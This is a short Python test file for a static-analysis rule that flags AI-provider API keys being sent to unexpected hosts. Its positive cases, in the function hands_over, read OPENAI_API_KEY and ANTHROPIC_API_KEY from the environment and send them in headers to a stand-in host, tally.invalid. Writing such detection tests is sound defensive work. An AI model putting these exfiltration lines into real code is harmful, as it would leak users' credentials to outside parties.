import os

import httpx
import requests


def hands_over():
    # ruleid: exfiltration-model-key-elsewhere
    requests.get("https://tally.invalid/k", headers={"x-k": os.environ["OPENAI_API_KEY"]})
    key = os.getenv("ANTHROPIC_API_KEY")
    # ruleid: exfiltration-model-key-elsewhere
    httpx.post("https://tally.invalid", headers={"Authorization": f"Bearer {key}"}, json={})


def asks(base):
    key = os.environ.get("OPENAI_API_KEY")
    # ok: exfiltration-model-key-elsewhere
    httpx.post("https://api.openai.com/v1/embeddings", headers={"Authorization": f"Bearer {key}"}, json={})
    # ok: exfiltration-model-key-elsewhere
    httpx.post(f"{base}/chat", headers={"Authorization": f"Bearer {key}"}, json={})
    # ok: exfiltration-model-key-elsewhere
    httpx.post("http://localhost:4000/chat", headers={"Authorization": f"Bearer {key}"}, json={})
    # ok: exfiltration-model-key-elsewhere
    httpx.get("https://tally.invalid/k", headers={"x-k": "set" if key else "unset"})
